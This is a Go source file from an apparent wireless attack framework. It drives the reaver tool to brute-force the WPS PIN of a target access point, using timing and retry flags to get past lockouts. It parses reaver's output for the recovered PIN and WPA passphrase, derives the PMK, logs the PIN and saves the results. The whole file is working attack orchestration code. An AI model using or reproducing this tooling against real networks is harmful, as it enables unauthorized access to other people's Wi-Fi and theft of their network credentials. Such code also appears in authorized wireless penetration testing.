// Package wps brute-forces WPS PINs with reaver.
package wps

import (
	"context"
	"fmt"
	"log/slog"
	"strconv"
	"time"

	"go.opentelemetry.io/otel/attribute"

	"github.com/lcalzada-xor/netraptor/internal/core/domain"
	"github.com/lcalzada-xor/netraptor/internal/core/ports"
	"github.com/lcalzada-xor/netraptor/internal/telemetry"
)

// pskGrace is how long the loop keeps reading after a PIN for the
// passphrase line that normally follows it.
const pskGrace = 5 * time.Second

// Engine implements ports.WPSAttacker using reaver.
type Engine struct {
	runner   ports.CommandRunner
	channels ports.ChannelSetter
	tracker  ports.ResourceTracker
	progress ports.ProgressReporter
	logger   *slog.Logger
	parser   *ReaverParser

	Reaver    string
	OutputDir string
	PSKGrace  time.Duration
	now       func() time.Time
}

var _ ports.WPSAttacker = (*Engine)(nil)

func NewEngine(runner ports.CommandRunner, channels ports.ChannelSetter, tracker ports.ResourceTracker, progress ports.ProgressReporter, logger *slog.Logger) *Engine {
	return &Engine{
		runner:    runner,
		channels:  channels,
		tracker:   tracker,
		progress:  progress,
		logger:    logger,
		parser:    NewReaverParser(),
		Reaver:    "reaver",
		OutputDir: ".",
		PSKGrace:  pskGrace,
		now:       time.Now,
	}
}

func (e *Engine) buildReaverArgs(cfg domain.WPSAttackConfig) []string {
	args := []string{"-i", cfg.Interface, "-b", cfg.TargetBSSID}
	if cfg.Channel > 0 {
		args = append(args, "-c", strconv.Itoa(cfg.Channel))
	}
	return append(args, "-vv", "-L", "-N", "-d", "15", "-T", ".5", "-r", "3:15")
}

// Attack runs reaver until a terminal marker, the ceiling, process exit or
// interruption. Only a failure to start is returned as an error; every
// other ending is described by the result's Reason.
func (e *Engine) Attack(ctx context.Context, cfg domain.WPSAttackConfig) (domain.AttackResult, error) {
	bssid, err := domain.NormalizeBSSID(cfg.TargetBSSID)
	if err != nil {
		return domain.AttackResult{BSSID: cfg.TargetBSSID, Reason: domain.ReasonStartFailed}, fmt.Errorf("%w: %s", err, cfg.TargetBSSID)
	}
	cfg.TargetBSSID = bssid
	if cfg.Ceiling <= 0 {
		cfg.Ceiling = domain.DefaultWPSCeiling
	}

	ctx, span := telemetry.Tracer().Start(ctx, "wps_attack")
	span.SetAttributes(attribute.String("bssid", bssid), attribute.Float64("ceiling_seconds", cfg.Ceiling.Seconds()))
	defer span.End()

	res := domain.AttackResult{BSSID: bssid, StartedAt: e.now()}

	if cfg.Channel > 0 && e.channels != nil {
		if err := e.channels.SetChannel(ctx, cfg.Interface, cfg.Channel); err != nil {
			e.logger.Warn("could not set channel", "iface", cfg.Interface, "channel", cfg.Channel, "error", err)
		}
	}

	proc, err := e.runner.Start(ctx, ports.Command{Name: e.Reaver, Args: e.buildReaverArgs(cfg), CaptureOutput: true})
	if err != nil {
		res.Reason = domain.ReasonStartFailed
		telemetry.AttacksTotal.WithLabelValues("wps", telemetry.OutcomeFailure).Inc()
		return res, fmt.Errorf("start reaver: %w", err)
	}
	e.tracker.SetActive(proc)
	defer e.tracker.ClearActive(proc)

	e.logger.Info("wps attack started", "bssid", bssid, "iface", cfg.Interface, "ceiling", cfg.Ceiling)
	res.Reason = e.consume(ctx, proc, cfg, &res)

	if err := proc.Terminate(); err != nil {
		e.logger.Warn("failed to stop reaver", "error", err)
	}
	res.Duration = e.now().Sub(res.StartedAt)

	if res.Success() {
		if res.Passphrase != "" && cfg.ESSID != "" {
			res.PMK = DerivePMK(res.Passphrase, cfg.ESSID)
		}
		e.persist(&res)
	}

	telemetry.AttacksTotal.WithLabelValues("wps", telemetry.Outcome(res.Success())).Inc()
	switch res.Reason {
	case domain.ReasonPINFound:
		e.logger.Info("wps pin recovered", "bssid", bssid, "pin", res.PIN, "artifact", res.Artifact)
	case domain.ReasonTimeout:
		e.logger.Warn("wps attack reached its ceiling", "bssid", bssid, "last_pin", res.LastPIN, "elapsed", res.Duration)
	case domain.ReasonInterrupted:
		e.logger.Warn("wps attack interrupted", "bssid", bssid, "last_pin", res.LastPIN)
	default:
		e.logger.Info("wps attack finished without a pin", "bssid", bssid, "reason", res.Reason)
	}
	return res, nil
}

// consume classifies output lines until a terminal condition and returns it.
func (e *Engine) consume(ctx context.Context, proc ports.Process, cfg domain.WPSAttackConfig, res *domain.AttackResult) domain.CompletionReason {
	ceiling := time.NewTimer(cfg.Ceiling)
	defer ceiling.Stop()

	var grace <-chan time.Time
	lines := proc.Lines()

	for {
		select {
		case <-ctx.Done():
			if res.Success() {
				return domain.ReasonPINFound
			}
			return domain.ReasonInterrupted
		case <-ceiling.C:
			if res.Success() {
				return domain.ReasonPINFound
			}
			return domain.ReasonTimeout
		case <-grace:
			return domain.ReasonPINFound
		case line, ok := <-lines:
			if !ok {
				if res.Success() {
					return domain.ReasonPINFound
				}
				return domain.ReasonProcessExited
			}
			e.logger.Debug("reaver", "line", line)

			parsed := e.parser.ParseLine(line)
			if parsed.TriedPIN != "" {
				res.LastPIN = parsed.TriedPIN
				e.progress.Report(domain.ProgressEvent{
					Operation: "wps_attack",
					Message:   "trying pin " + parsed.TriedPIN,
					Elapsed:   e.now().Sub(res.StartedAt),
					Total:     cfg.Ceiling,
					Timestamp: e.now(),
				})
			}
			if parsed.Warning != "" {
				e.logger.Warn("reaver reported a recoverable condition", "bssid", res.BSSID, "condition", parsed.Warning)
			}
			if parsed.PSK != "" {
				res.Passphrase = parsed.PSK
			}
			if parsed.PIN != "" && res.PIN == "" {
				res.PIN = parsed.PIN
				res.Duration = e.now().Sub(res.StartedAt)
				e.persist(res)
				grace = time.After(e.PSKGrace)
			}
			if res.Success() && res.Passphrase != "" {
				return domain.ReasonPINFound
			}
			if parsed.NotFound {
				return domain.ReasonPINNotFound
			}
		}
	}
}

func (e *Engine) persist(res *domain.AttackResult) {
	path := ResultPath(e.OutputDir, res.StartedAt)
	if err := writeResult(path, *res); err != nil {
		e.logger.Error("could not save wps result", "path", path, "error", err)
		return
	}
	res.Artifact = path
}
